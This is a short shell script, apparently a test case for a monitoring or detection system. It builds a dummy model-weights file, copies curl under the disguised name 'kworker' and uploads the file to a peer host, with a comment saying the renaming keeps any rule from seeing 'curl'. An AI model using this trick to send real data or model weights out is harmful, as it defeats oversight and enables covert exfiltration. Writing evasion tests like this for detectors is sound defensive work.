# The same upload with a renamed copy of curl, so no rule sees "curl".
. "$LIB/common.sh"
make_blob "$WORK/models/adapter.safetensors" 4
cp /usr/bin/curl "$WORK/kworker"
"$WORK/kworker" -s --max-time 30 -H 'Expect:' --data-binary "@$WORK/models/adapter.safetensors" "http://$PEER/u" > /dev/null
